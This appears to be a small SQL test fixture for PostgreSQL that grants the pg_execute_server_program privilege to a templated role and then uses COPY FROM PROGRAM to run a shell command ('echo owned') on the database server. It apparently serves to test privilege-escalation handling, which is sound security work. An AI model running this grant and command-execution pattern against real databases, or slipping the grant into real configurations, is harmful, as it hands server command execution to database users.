-- COPY FROM PROGRAM runs commands as the server.
-- object: role:{backend}
-- base: wiki
--- leak
RESET ROLE; GRANT pg_execute_server_program TO {backend};
--- exploit
CREATE TEMP TABLE lines (line text); COPY lines FROM PROGRAM 'echo owned'; SELECT FROM lines;
